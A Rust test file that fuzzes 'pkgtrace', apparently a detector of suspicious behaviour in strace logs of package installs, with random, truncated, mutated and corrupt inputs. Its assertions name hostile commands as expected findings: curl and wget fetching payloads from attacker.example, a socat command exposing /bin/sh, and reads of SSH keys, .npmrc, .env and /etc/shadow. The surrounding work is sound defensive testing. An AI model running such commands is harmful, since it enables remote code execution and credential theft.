//! Bad input gets a clear error and loses nothing: random bytes, garbage
//! lines among valid ones, truncated logs, huge lines, non-UTF-8 paths,
//! mutated corpus lines, empty and corrupt inputs, compressed logs cut
//! half-way (what came before the cut is reported).

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

mod common;
use common::{code, corpus_log as corpus, stderr, BIN, CORPUS_OPTS};

fn run(args: &[&str]) -> Output {
    Command::new(BIN).args(args).env_remove("PKGTRACE_LOG").env("NO_COLOR", "1").output().expect("run pkgtrace")
}

fn assert_no_panic(o: &Output, what: &str) {
    let c = code(o);
    assert_ne!(c, 101, "{what}: panicked: {}", stderr(o));
    assert!(!stderr(o).contains("panicked"), "{what}: {}", stderr(o));
}

/// `analyze --format json` with the corpus options; asserts exit 0/1, no panic, valid JSON.
fn analyze(path: &Path) -> (Value, Output) {
    let p = path.to_str().unwrap();
    let o = run(&[&["analyze", "--format", "json"][..], &CORPUS_OPTS, &[p]].concat());
    assert_no_panic(&o, p);
    let c = code(&o);
    assert!(c == 0 || c == 1, "{p}: exit {c}: {}", stderr(&o));
    let v =
        serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{p}: invalid JSON ({e}); stderr {}", stderr(&o)));
    (v, o)
}

/// `analyze --format json` of several paths with the corpus options;
/// asserts exit 0/1, no panic, valid JSON.
fn analyze_paths(paths: &[&str]) -> (Value, Output) {
    let o = run(&[&["analyze", "--format", "json"][..], &CORPUS_OPTS, paths].concat());
    assert_no_panic(&o, &paths.join(" "));
    let c = code(&o);
    assert!(c == 0 || c == 1, "{paths:?}: exit {c}: {}", stderr(&o));
    let v = serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("invalid JSON ({e}); stderr {}", stderr(&o)));
    (v, o)
}

fn findings(r: &Value) -> Vec<Value> {
    r["phases"].as_array().unwrap().iter().flat_map(|p| p["findings"].as_array().unwrap().clone()).collect()
}

/// Findings without their position (`evidence.at`, `evidence.seq`), which
/// legitimately move when lines are inserted or removed.
fn findings_sans_position(r: &Value) -> Vec<Value> {
    findings(r)
        .into_iter()
        .map(|mut f| {
            let ev = f["evidence"].as_object_mut().unwrap();
            ev.remove("at");
            ev.remove("seq");
            f
        })
        .collect()
}

fn rule_subjects(r: &Value) -> Vec<(String, String)> {
    findings(r)
        .iter()
        .map(|f| (f["rule"].as_str().unwrap().to_string(), f["subject"].as_str().unwrap().to_string()))
        .collect()
}

fn has_finding(r: &Value, rule: &str, subject: &str) -> bool {
    findings(r).iter().any(|f| f["rule"] == rule && f["subject"] == subject && f.get("suppressed_by").is_none())
}

fn file_paths(r: &Value) -> Vec<String> {
    r["phases"][0]["behaviour"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap().to_string())
        .collect()
}

/// Seeded xorshift64*, so every run feeds the same bytes.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn byte(&mut self) -> u8 {
        (self.next() >> 56) as u8
    }
}

/// Lines (without their `\n`) of a corpus log.
fn corpus_lines(rel: &str) -> Vec<Vec<u8>> {
    let bytes = std::fs::read(corpus(rel)).unwrap();
    bytes.split(|b| *b == b'\n').filter(|l| !l.is_empty()).map(<[u8]>::to_vec).collect()
}

fn write_lines(path: &Path, lines: &[Vec<u8>]) {
    let mut out = Vec::new();
    for l in lines {
        out.extend_from_slice(l);
        out.push(b'\n');
    }
    std::fs::write(path, out).unwrap();
}

/// The `N` of every `<path>:N` warning on stderr.
fn warned_lines(stderr: &str, path: &str) -> Vec<u64> {
    let needle = format!("{path}:");
    stderr
        .match_indices(&needle)
        .filter_map(|(i, _)| {
            let rest = &stderr[i + needle.len()..];
            let digits: String = rest.chars().take_while(char::is_ascii_digit).collect();
            digits.parse().ok()
        })
        .collect()
}

// ---------------------------------------------------------------- random bytes

#[test]
fn random_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let mut data = Vec::with_capacity(200_000);
    while data.len() < 200_000 {
        // Mostly uniform bytes (NULs and invalid UTF-8 included), with a
        // newline now and then so there are many lines.
        let b = rng.byte();
        data.push(if rng.below(64) == 0 { b'\n' } else { b });
    }
    assert!(data.contains(&0) && std::str::from_utf8(&data).is_err());
    let path = dir.path().join("random.log");
    std::fs::write(&path, &data).unwrap();
    let p = path.to_str().unwrap();
    // Alone, it holds no system call: an input error, not "0 findings".
    let o = run(&[&["analyze", "--format", "json"][..], &CORPUS_OPTS, &[p]].concat());
    assert_no_panic(&o, p);
    assert_eq!(code(&o), 2, "{}", stderr(&o));
    assert!(o.stdout.is_empty(), "no report of nothing");
    assert!(
        stderr(&o).contains(&format!("pkgtrace: {p}: no system call could be read from it (")),
        "the error names the file: {}",
        stderr(&o)
    );
    // Beside a real log, its lines are unparsed events, warned about.
    let o = run(&[
        &["analyze", "--format", "json"][..],
        &CORPUS_OPTS,
        &[p, &corpus("formats/recommended.log").to_string_lossy()],
    ]
    .concat());
    assert_no_panic(&o, p);
    let c = code(&o);
    assert!(c == 0 || c == 1, "{p}: exit {c}: {}", stderr(&o));
    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
    let lines = data.split(|b| *b == b'\n').filter(|l| !l.is_empty()).count() as u64;
    let st = &r["stats"];
    assert!(st["unparsed"].as_u64().unwrap() > 0, "{st}");
    assert!(st["lines"].as_u64().unwrap() >= lines / 2, "lines counted: {st} (about {lines})");
    let warned = warned_lines(&stderr(&o), p);
    assert!(!warned.is_empty(), "warnings name {p}:N: {}", stderr(&o));
    assert!(warned.iter().all(|n| *n >= 1 && *n <= st["lines"].as_u64().unwrap() + 1), "{warned:?}");
    // parse survives it too and writes valid JSON lines.
    let o = run(&["parse", p]);
    assert_no_panic(&o, "parse random");
    assert_eq!(code(&o), 0);
    for l in o.stdout.split(|b| *b == b'\n').filter(|l| !l.is_empty()) {
        serde_json::from_slice::<Value>(l).expect("parse output is JSON");
    }
}

#[test]
fn warnings_are_plain_when_stderr_is_not_a_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("garbage.log");
    std::fs::write(&path, "this is not strace\n").unwrap();
    let o = Command::new(BIN).args(["analyze", path.to_str().unwrap()]).env_remove("NO_COLOR").output().unwrap();
    assert!(stderr(&o).contains("garbage.log:1"), "{}", stderr(&o));
    assert!(!stderr(&o).contains('\x1b'), "{:?}", stderr(&o));
}

// ---------------------------------------------------------------- garbage among valid lines

fn garbage_line(rng: &mut Rng, i: usize) -> Vec<u8> {
    match rng.below(5) {
        0 => format!("~~ garbage line {i} ~~ ((( \"unterminated").into_bytes(),
        1 => {
            let mut v = b"\x00\xff\xfe binary junk ".to_vec();
            v.extend((0..40).map(|_| rng.byte()).filter(|b| *b != b'\n'));
            v
        }
        2 => format!("}}}}]]) = = = {i} <...").into_bytes(),
        3 => b"not a system call line at all".to_vec(),
        _ => format!("@@@ {} @@@", "x".repeat(i % 300)).into_bytes(),
    }
}

/// Inserts a garbage line after every 10th line of `rel` (with a pid column
/// taken from the line before when `with_pid`) and checks nothing is lost.
fn garbage_every_ten_lines(rel: &str, with_pid: bool) {
    let dir = tempfile::tempdir().unwrap();
    let orig = corpus(rel);
    let (want, _) = analyze(&orig);
    let lines = corpus_lines(rel);
    let mut rng = Rng(0xDEAD_BEEF ^ lines.len() as u64);
    let mut mixed = Vec::new();
    let mut inserted = 0u64;
    for (i, l) in lines.iter().enumerate() {
        mixed.push(l.clone());
        if (i + 1) % 10 == 0 {
            let mut g = Vec::new();
            if with_pid {
                let pid: Vec<u8> = l.iter().copied().take_while(u8::is_ascii_digit).collect();
                assert!(!pid.is_empty(), "{rel} has a pid column");
                g.extend_from_slice(&pid);
                g.extend_from_slice(b"   ");
            }
            g.extend(garbage_line(&mut rng, i));
            mixed.push(g);
            inserted += 1;
        }
    }
    let path = dir.path().join(orig.file_name().unwrap());
    write_lines(&path, &mixed);
    let (got, o) = analyze(&path);
    assert!(!findings(&want).is_empty());
    assert_eq!(got["stats"]["unparsed"].as_u64().unwrap(), inserted, "{rel}: one unparsed per garbage line");
    assert_eq!(got["stats"]["lines"].as_u64().unwrap(), mixed.len() as u64);
    // The first garbage line is line 11; it is warned about by number.
    let warned = warned_lines(&stderr(&o), path.to_str().unwrap());
    assert!(warned.contains(&11), "{rel}: {warned:?}");
    assert!(warned.iter().all(|n| n % 11 == 0), "{rel}: only garbage lines are warned about: {warned:?}");
    assert_eq!(findings_sans_position(&got), findings_sans_position(&want), "{rel}: findings changed by garbage");
    assert_eq!(got["phases"][0]["behaviour"], want["phases"][0]["behaviour"], "{rel}: behaviour changed");
    assert_eq!(got["stats"]["processes"], want["stats"]["processes"], "{rel}: processes");
}

#[test]
fn garbage_lines_with_a_pid_column_lose_no_findings() {
    garbage_every_ten_lines("behaviour/exec-tools.log", true);
    garbage_every_ten_lines("behaviour/net-connect.log", true);
}

#[test]
fn garbage_lines_lose_no_findings() {
    garbage_every_ten_lines("behaviour/exec-tools.log", false);
    garbage_every_ten_lines("behaviour/net-connect.log", false);
}

#[test]
fn garbage_line_keeps_the_pid_of_later_lines() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("m.log");
    std::fs::write(
        &path,
        "100 openat(AT_FDCWD, \"/a\", O_RDONLY) = 3\ngarbage\n100 openat(AT_FDCWD, \"/b\", O_RDONLY) = 4\n",
    )
    .unwrap();
    let o = run(&["parse", path.to_str().unwrap()]);
    let pids: Vec<i64> = o
        .stdout
        .split(|b| *b == b'\n')
        .filter_map(|l| serde_json::from_slice::<Value>(l).ok())
        .filter(|e| e["kind"] == "open")
        .map(|e| e["pid"].as_i64().unwrap())
        .collect();
    assert_eq!(pids, [100, 100]);
}

// ---------------------------------------------------------------- truncation

#[test]
fn truncated_in_the_middle_of_a_line() {
    let dir = tempfile::tempdir().unwrap();
    let lines = corpus_lines("behaviour/creds.log");
    // Cut line 480 (after every credential read) in half.
    let k = 479;
    let mut cut = lines[..k].to_vec();
    let half = &lines[k][..lines[k].len() / 2];
    let mut bytes = Vec::new();
    for l in &cut {
        bytes.extend_from_slice(l);
        bytes.push(b'\n');
    }
    bytes.extend_from_slice(half); // no final newline
    let path = dir.path().join("cut.log");
    std::fs::write(&path, &bytes).unwrap();
    let (got, _) = analyze(&path);
    let whole = dir.path().join("whole.log");
    write_lines(&whole, &cut);
    let (want, _) = analyze(&whole);
    assert!(has_finding(&got, "read-ssh-private-key", "/home/pkgtrace/.ssh/id_rsa"));
    assert!(has_finding(&got, "read-dotenv-outside-project", "/home/pkgtrace/.env"));
    let got_rs = rule_subjects(&got);
    for rs in rule_subjects(&want) {
        assert!(got_rs.contains(&rs), "{rs:?} lost by the truncated last line");
    }
    assert!(got["stats"]["lines"].as_u64().unwrap() >= k as u64);
    // Also cut through the line's first bytes (just the pid).
    cut.push(lines[k][..2].to_vec());
    write_lines(&whole, &cut);
    let (got, _) = analyze(&whole);
    assert!(has_finding(&got, "read-ssh-private-key", "/home/pkgtrace/.ssh/id_rsa"));
}

#[test]
fn truncated_inside_an_unfinished_call() {
    let dir = tempfile::tempdir().unwrap();
    let lines = corpus_lines("behaviour/exec-tools.log");
    // The `sh /tmp/payload.sh` execve is split; stop right after its
    // `<unfinished ...>` half, and again in the middle of that half.
    let k = lines
        .iter()
        .position(|l| {
            let s = String::from_utf8_lossy(l);
            s.contains("\"/tmp/payload.sh\"]") && s.ends_with("<unfinished ...>")
        })
        .expect("an unfinished execve of sh /tmp/payload.sh");
    let unfinished = lines[k].clone();
    let variants: Vec<Vec<Vec<u8>>> = vec![
        lines[..=k].to_vec(),
        [&lines[..k], &[unfinished[..unfinished.len() - 8].to_vec()][..]].concat(),
        [&lines[..k], &[unfinished[..unfinished.len() / 2].to_vec()][..]].concat(),
    ];
    for (i, v) in variants.iter().enumerate() {
        let path = dir.path().join(format!("unfinished-{i}.log"));
        write_lines(&path, v);
        let (got, _) = analyze(&path);
        assert!(has_finding(&got, "downloader-writes-to-temp", "/tmp/payload.sh"), "variant {i}");
        assert!(
            has_finding(&got, "exec-downloader", "curl -s http://x7f3a9.attacker.example/payload.sh"),
            "variant {i}"
        );
        let cmds = got["phases"][0]["behaviour"]["commands"].as_array().unwrap();
        assert!(
            cmds.iter().any(|c| c["argv"]
                == serde_json::json!(["wget", "-q", "-O", "/tmp/payload.sh", "http://dl.attacker.example/p.sh"])),
            "variant {i}: the commands before the cut are kept"
        );
        // Also an unfinished call that is never resumed in the MIDDLE of a log.
        let mut middle = v.clone();
        middle.extend_from_slice(&lines[k + 1..]);
        let path = dir.path().join(format!("unresumed-{i}.log"));
        write_lines(&path, &middle);
        let (got, _) = analyze(&path);
        assert!(has_finding(&got, "exec-network-tool", "socat TCP:127.0.0.1:9001 EXEC:/bin/sh"), "variant {i}");
    }
}

// ---------------------------------------------------------------- huge lines

#[test]
fn two_megabyte_lines() {
    let dir = tempfile::tempdir().unwrap();
    let big = "A".repeat(2 << 20);
    let mut rng = Rng(42);
    let junk: Vec<u8> = (0..2 << 20).map(|_| rng.byte()).map(|b| if b == b'\n' { b'x' } else { b }).collect();
    let mut log = Vec::new();
    log.extend_from_slice(b"100 execve(\"/usr/bin/node\", [\"node\", \"x.js\"], 0x7ffc0000 /* 5 vars */) = 0\n");
    log.extend_from_slice(b"100 openat(AT_FDCWD, \"/home/pkgtrace/.ssh/id_rsa\", O_RDONLY|O_CLOEXEC) = 3\n");
    log.extend_from_slice(format!("100 write(1, \"{big}\", {}) = {}\n", big.len(), big.len()).as_bytes());
    log.extend_from_slice(&junk);
    log.push(b'\n');
    log.extend_from_slice(b"100 openat(AT_FDCWD, \"/home/pkgtrace/.npmrc\", O_RDONLY) = 4\n");
    log.extend_from_slice(format!("100 write(4, \"{big}\"..., {}) = {}\n", big.len(), big.len()).as_bytes());
    log.extend_from_slice(b"100 openat(AT_FDCWD, \"/etc/shadow\", O_RDONLY) = -1 EACCES (Permission denied)\n");
    log.extend_from_slice(b"100 exit_group(0) = ?\n100 +++ exited with 0 +++\n");
    let path = dir.path().join("big-lines.log");
    std::fs::write(&path, &log).unwrap();
    let start = std::time::Instant::now();
    let (r, o) = analyze(&path);
    assert!(start.elapsed().as_secs() < 10, "2 MB lines take {:?}", start.elapsed());
    assert!(has_finding(&r, "read-ssh-private-key", "/home/pkgtrace/.ssh/id_rsa"), "{r:#}");
    assert!(has_finding(&r, "read-registry-token", "/home/pkgtrace/.npmrc"), "the line after the junk");
    assert!(has_finding(&r, "read-system-secrets", "/etc/shadow"), "the line after the second 2 MB write");
    assert_eq!(r["stats"]["lines"], 9);
    assert_eq!(r["stats"]["unparsed"], 1, "only the junk line; stderr {}", stderr(&o));
    assert!(o.stdout.len() < 1 << 20, "the report does not copy the 2 MB payloads: {} bytes", o.stdout.len());
    assert!(o.stderr.len() < 64 << 10, "the warning about the junk line is bounded: {} bytes", o.stderr.len());
}

// ---------------------------------------------------------------- non-UTF-8 paths

#[test]
fn invalid_utf8_paths() {
    let dir = tempfile::tempdir().unwrap();
    let mut log = Vec::new();
    log.extend_from_slice(b"100 execve(\"/usr/bin/node\", [\"node\", \"x.js\"], 0x7ffc0000 /* 5 vars */) = 0\n");
    log.extend_from_slice(b"100 openat(AT_FDCWD, \"/tmp/\\377x\", O_RDONLY) = 3\n");
    log.extend_from_slice(b"100 openat(AT_FDCWD, \"/opt/raw-\xff\xfe-name\", O_WRONLY|O_CREAT|O_TRUNC, 0644) = 4\n");
    log.extend_from_slice(
        b"100 openat(AT_FDCWD, \"/home/pkgtrace/.npmrc\\377\", O_RDONLY) = -1 ENOENT (No such file or directory)\n",
    );
    log.extend_from_slice(b"100 openat(AT_FDCWD, \"/home/pkgtrace/.npmrc\", O_RDONLY) = 5\n");
    let path = dir.path().join("badutf8.log");
    std::fs::write(&path, &log).unwrap();
    let (r, _) = analyze(&path);
    let files = file_paths(&r);
    for want in ["/tmp/\u{FFFD}x", "/opt/raw-\u{FFFD}\u{FFFD}-name", "/home/pkgtrace/.npmrc\u{FFFD}"] {
        assert!(files.iter().any(|f| f == want), "{want:?} in {files:?}");
    }
    let raw = r["phases"][0]["behaviour"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "/opt/raw-\u{FFFD}\u{FFFD}-name")
        .unwrap()
        .clone();
    assert_eq!(raw["write"], true);
    assert_eq!(r["stats"]["unparsed"], 0);
    // `~/.npmrc\377` is not `~/.npmrc`; the real one is a finding.
    assert!(has_finding(&r, "read-registry-token", "/home/pkgtrace/.npmrc"));
    assert!(!findings(&r)
        .iter()
        .any(|f| f["subject"] == "/home/pkgtrace/.npmrc\u{FFFD}" && f["rule"] == "read-registry-token"));

    // The event stream keeps the exact bytes as hex.
    let o = run(&["parse", path.to_str().unwrap()]);
    assert_eq!(code(&o), 0);
    let stream = String::from_utf8(o.stdout.clone()).expect("the event stream is UTF-8");
    assert!(stream.contains(r#"{"hex":"2f746d702fff78"}"#), "{stream}");
    let raw_hex: String = b"/opt/raw-\xff\xfe-name".iter().map(|b| format!("{b:02x}")).collect();
    assert!(stream.contains(&format!(r#"{{"hex":"{raw_hex}"}}"#)), "{stream}");
    let events = dir.path().join("events.jsonl");
    std::fs::write(&events, &o.stdout).unwrap();
    // parse of the event stream gives the same bytes back, and analyzing it
    // gives the same report.
    let o2 = run(&["parse", events.to_str().unwrap()]);
    assert_eq!(code(&o2), 0);
    let stream2 = String::from_utf8(o2.stdout).unwrap();
    assert!(stream2.contains(r#"{"hex":"2f746d702fff78"}"#) && stream2.contains(&raw_hex), "{stream2}");
    let (r2, _) = analyze(&events);
    assert_eq!(r2, r, "parse → analyze keeps the non-UTF-8 paths");
}

#[test]
fn non_utf8_corpus_log() {
    // badpath-stderr.log has a raw non-UTF-8 line from the tracee's stderr.
    let (r, o) = analyze(&corpus("formats/badpath-stderr.log"));
    assert_eq!(r["stats"]["unparsed"], 1, "{}", stderr(&o));
    let files = file_paths(&r);
    assert!(files.iter().any(|f| f.starts_with("/tmp/bad-") && f.contains('\u{FFFD}')), "{files:?}");
}

// ---------------------------------------------------------------- mutation fuzz

fn mutate(rng: &mut Rng, line: &[u8]) -> Vec<u8> {
    let mut l = line.to_vec();
    for _ in 0..1 + rng.below(3) {
        if l.is_empty() {
            break;
        }
        let i = rng.below(l.len());
        match rng.below(8) {
            0 => l.truncate(i),
            1 => l[i] = rng.byte(),
            2 => l.insert(i, *b"\"\"(){}[]<>".get(rng.below(10)).unwrap()),
            3 => {
                let n = rng.below(8).min(l.len() - i);
                l.drain(i..i + n);
            }
            4 => {
                // Duplicate a quote or bracket already in the line.
                if let Some(j) = l.iter().position(|b| b"\"()[]{}<>".contains(b)) {
                    let b = l[j];
                    l.insert(j, b);
                }
            }
            5 => l.splice(i..i, b" <unfinished ...>".iter().copied()).for_each(drop),
            6 => l.splice(i..i, b"<... read resumed>".iter().copied()).for_each(drop),
            _ => l[i] = b"\\\"0x-=,"[rng.below(7)],
        }
    }
    l.retain(|b| *b != b'\n');
    l
}

#[test]
fn mutation_fuzz() {
    let dir = tempfile::tempdir().unwrap();
    let mut source: Vec<Vec<u8>> = Vec::new();
    source.extend(corpus_lines("behaviour/exec-tools.log").into_iter().take(800));
    source.extend(corpus_lines("behaviour/creds.log").into_iter().take(400));
    source.extend(corpus_lines("behaviour/net-connect.log").into_iter().take(500));
    source.extend(corpus_lines("formats/pathsearch.log").into_iter().take(300));
    assert_eq!(source.len(), 2000);
    for seed in 1..=4u64 {
        let mut rng = Rng(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15));
        let mutated: Vec<Vec<u8>> =
            source.iter().map(|l| if rng.below(10) < 7 { mutate(&mut rng, l) } else { l.clone() }).collect();
        // Four files per seed: each 500 consecutive lines.
        for (chunk_no, chunk) in mutated.chunks(500).enumerate() {
            let path = dir.path().join(format!("fuzz-{seed}-{chunk_no}.log"));
            write_lines(&path, chunk);
            let p = path.to_str().unwrap();
            let keep = || {
                let kept = std::env::temp_dir().join(format!("pkgtrace-fuzz-failure-{seed}-{chunk_no}.log"));
                let _ = std::fs::copy(&path, &kept);
                kept.display().to_string()
            };
            let o = run(&[&["analyze", "--format", "json"][..], &CORPUS_OPTS, &[p]].concat());
            let c = code(&o);
            if c == 101 || !(c == 0 || c == 1) || stderr(&o).contains("panicked") {
                panic!("seed {seed} chunk {chunk_no}: exit {c}; input kept at {}; stderr: {}", keep(), stderr(&o));
            }
            let r: Value = serde_json::from_slice(&o.stdout)
                .unwrap_or_else(|e| panic!("seed {seed} chunk {chunk_no}: invalid JSON ({e}); input at {}", keep()));
            assert_eq!(r["stats"]["lines"].as_u64().unwrap(), chunk.len() as u64, "input at {}", keep());
        }
    }
}

#[test]
fn mutation_fuzz_parse() {
    let dir = tempfile::tempdir().unwrap();
    let source = corpus_lines("behaviour/inline-code.log");
    let mut rng = Rng(7);
    let mutated: Vec<Vec<u8>> = source.iter().take(2000).map(|l| mutate(&mut rng, l)).collect();
    let path = dir.path().join("fuzz-parse.log");
    write_lines(&path, &mutated);
    let o = run(&["parse", path.to_str().unwrap()]);
    assert_no_panic(&o, "parse fuzz");
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let mut last = Value::Null;
    for l in o.stdout.split(|b| *b == b'\n').filter(|l| !l.is_empty()) {
        last = serde_json::from_slice(l).expect("every parse output line is JSON");
    }
    assert_eq!(last["stats"]["lines"].as_u64().unwrap(), mutated.len() as u64, "trailing stats line: {last}");
    // And the event stream analyzes.
    let events = dir.path().join("fuzz.jsonl");
    std::fs::write(&events, &o.stdout).unwrap();
    let (r_events, _) = analyze(&events);
    let (r_log, _) = analyze(&path);
    assert_eq!(r_events, r_log, "the mutated log and its event stream give the same report");
}

// ---------------------------------------------------------------- empty and corrupt inputs

#[test]
fn empty_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("empty.log");
    let p = path.to_str().unwrap();
    std::fs::write(&path, b"").unwrap();
    let o = run(&["analyze", "--format", "json", p]);
    assert_no_panic(&o, p);
    assert_eq!(code(&o), 2, "an empty log is bad input, not a clean run: {}", stderr(&o));
    assert!(o.stdout.is_empty(), "no report of nothing");
    assert!(stderr(&o).contains(&format!("{p}: no system call could be read from it (it is empty)")), "{}", stderr(&o));
    // Only blank lines, or only garbage: the same.
    for (bytes, lines) in [(&b"\n\n\n"[..], 3), (&b"this is not strace\nnor is this\n"[..], 2)] {
        std::fs::write(&path, bytes).unwrap();
        let o = run(&["analyze", p]);
        assert_eq!(code(&o), 2, "{}", stderr(&o));
        let want = format!("pkgtrace: {p}: no system call could be read from it ({lines} lines, none in strace's format); is it an strace -f log?");
        assert!(stderr(&o).contains(&want), "{}", stderr(&o));
    }
    // Beside a real log, an empty one is warned about and the rest is reported.
    std::fs::write(&path, b"").unwrap();
    let good = corpus("formats/recommended.log");
    let (with_empty, o) = analyze_paths(&[p, good.to_str().unwrap()]);
    assert!(stderr(&o).contains(&format!("{p}: no system call could be read from it")), "{}", stderr(&o));
    let (alone, _) = analyze(&good);
    assert_eq!(findings(&with_empty), findings(&alone));
}

#[test]
fn directory_without_logs() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().to_str().unwrap();
    let o = run(&["analyze", d]);
    assert_no_panic(&o, "empty dir");
    assert_eq!(code(&o), 2);
    assert!(stderr(&o).contains(d) && stderr(&o).contains("no logs"), "clear message: {}", stderr(&o));
    // A README is not a log.
    std::fs::write(dir.path().join("README.md"), "# logs\n").unwrap();
    let o = run(&["analyze", d]);
    assert_eq!(code(&o), 2, "{}", stderr(&o));
    let o = run(&["parse", d]);
    assert_eq!(code(&o), 2);
}

/// Compressed inputs from which not one line can be read: an input error
/// that names the file.
#[test]
fn corrupt_compressed_files() {
    let dir = tempfile::tempdir().unwrap();
    let zst = std::fs::read(corpus("formats/recommended.log.zst")).unwrap();
    let gz = std::fs::read(corpus("formats/recommended.log.gz")).unwrap();
    // This log is one zstd block: half of it decodes to nothing.
    let mut flipped = zst.clone();
    let mid = flipped.len() / 2;
    for b in &mut flipped[mid..mid + 16] {
        *b ^= 0x5a;
    }
    let mut magic_junk = vec![0x28, 0xb5, 0x2f, 0xfd];
    let mut rng = Rng(3);
    magic_junk.extend((0..4096).map(|_| rng.byte()));
    let mut gz_junk = gz[..10].to_vec();
    gz_junk.extend((0..4096).map(|_| rng.byte()));
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("truncated.log.zst", zst[..zst.len() / 2].to_vec()),
        ("flipped.log.zst", flipped),
        ("junk.log.zst", magic_junk),
        ("junk.log.gz", gz_junk),
    ];
    for (name, bytes) in cases {
        let path = dir.path().join(name);
        std::fs::write(&path, &bytes).unwrap();
        let p = path.to_str().unwrap();
        let o = run(&["analyze", "--format", "json", p]);
        assert_no_panic(&o, name);
        let c = code(&o);
        assert_eq!(c, 2, "{name}: nothing could be read: an input error; stderr {}", stderr(&o));
        assert!(stderr(&o).contains(name), "{name}: the error names the file: {}", stderr(&o));
        assert!(o.stdout.is_empty(), "{name}: no report of nothing");
        let o = run(&["parse", p]);
        assert_no_panic(&o, name);
        assert_eq!(code(&o), 2, "{name}: parse: {}", stderr(&o));
    }
}

/// creds.log (credential reads by line 480) followed by other corpus logs:
/// a log whose first half has findings, to cut in the middle.
fn creds_then_more() -> Vec<Vec<u8>> {
    let mut lines = Vec::new();
    for log in ["behaviour/creds.log", "formats/k.log", "formats/read-all.log", "formats/pathsearch.log"] {
        lines.extend(corpus_lines(log));
    }
    lines
}

/// `plain` compressed by the CLI tool `tool` (`gzip`, `zstd`) into `out`.
fn compress(tool: &str, plain: &Path, out: &Path) {
    let o =
        Command::new(tool).arg("-c").arg(plain).output().unwrap_or_else(|e| panic!("run {tool} (CI installs it): {e}"));
    assert!(o.status.success(), "{tool}: {}", String::from_utf8_lossy(&o.stderr));
    std::fs::write(out, o.stdout).unwrap();
}

/// `N` of the `FILE: corrupt <format> data after N lines: ...; the report
/// covers the lines before it` line on stderr.
fn cut_after(stderr: &str, file: &str, format: &str) -> u64 {
    let head = format!("pkgtrace: {file}: corrupt {format} data after ");
    let line =
        stderr.lines().find(|l| l.starts_with(&head)).unwrap_or_else(|| panic!("no `{head}N lines` line:\n{stderr}"));
    assert!(line.ends_with("; the report covers the lines before it"), "{line}");
    line[head.len()..].split(' ').next().unwrap().parse().unwrap_or_else(|_| panic!("{line}"))
}

/// A real gzip file cut half-way: the lines before the cut are analyzed
/// exactly as the same lines uncompressed would be, stderr and
/// `stats.cut` say where it was cut, and the verdict is the normal one.
#[test]
fn truncated_gzip_reports_the_lines_before_the_cut() {
    let dir = tempfile::tempdir().unwrap();
    let lines = creds_then_more();
    let plain = dir.path().join("creds.log");
    write_lines(&plain, &lines);
    let gz = dir.path().join("creds.log.gz");
    compress("gzip", &plain, &gz);
    let bytes = std::fs::read(&gz).unwrap();
    let cut = dir.path().join("cut.log.gz");
    std::fs::write(&cut, &bytes[..bytes.len() / 2]).unwrap();
    let p = cut.to_str().unwrap();
    let (got, o) = analyze(&cut);
    let n = cut_after(&stderr(&o), p, "gzip");
    let total = lines.len() as u64;
    assert!(n > 0 && n < total, "cut after {n} of {total} lines");
    assert_eq!(got["stats"]["lines"], n);
    let cuts = got["stats"]["cut"].as_array().expect("stats.cut");
    assert_eq!(cuts.len(), 1, "{cuts:?}");
    assert_eq!(cuts[0]["file"], p);
    assert_eq!(cuts[0]["lines"], n);
    assert_eq!(cuts[0]["what"], "corrupt gzip data");
    // The same lines, uncompressed, give the same findings.
    let head = dir.path().join("head.log");
    write_lines(&head, &lines[..n as usize]);
    let (want, _) = analyze(&head);
    assert!(has_finding(&want, "read-ssh-private-key", "/home/pkgtrace/.ssh/id_rsa"), "cut after creds.log");
    assert_eq!(findings_sans_position(&got), findings_sans_position(&want));
    // parse keeps the cut in the stream's trailer: analyzing the stream
    // says the same.
    let o = run(&["parse", p]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let events = dir.path().join("cut.events.jsonl");
    std::fs::write(&events, &o.stdout).unwrap();
    let (again, o) = analyze(&events);
    assert_eq!(cut_after(&stderr(&o), p, "gzip"), n);
    assert_eq!(again["stats"], got["stats"]);
}

/// Bytes flipped in the middle of a gzip file: no panic, no abort; what
/// decoded before the damage is reported, and the damage is named.
#[test]
fn corrupted_gzip_reports_what_came_before() {
    let dir = tempfile::tempdir().unwrap();
    let lines = creds_then_more();
    let plain = dir.path().join("creds.log");
    write_lines(&plain, &lines);
    let gz = dir.path().join("creds.log.gz");
    compress("gzip", &plain, &gz);
    let mut bytes = std::fs::read(&gz).unwrap();
    let mid = bytes.len() / 2;
    for b in &mut bytes[mid..mid + 16] {
        *b ^= 0x5a;
    }
    let bad = dir.path().join("flipped.log.gz");
    std::fs::write(&bad, &bytes).unwrap();
    let (got, o) = analyze(&bad);
    let n = cut_after(&stderr(&o), bad.to_str().unwrap(), "gzip");
    assert!(n > 0, "lines before the damage were read");
    assert_eq!(got["stats"]["cut"][0]["lines"], n);
    assert!(has_finding(&got, "read-ssh-private-key", "/home/pkgtrace/.ssh/id_rsa"), "{:?}", rule_subjects(&got));
}

/// The same for zstd, on a log of several blocks (zstd decodes a block at
/// a time, so a cut inside the first one leaves nothing).
#[test]
fn truncated_zstd_reports_the_lines_before_the_cut() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = Vec::new();
    for log in [
        "behaviour/creds.log",
        "formats/k.log",
        "formats/read-all.log",
        "formats/pathsearch.log",
        "formats/recommended.log",
    ] {
        lines.extend(corpus_lines(log));
    }
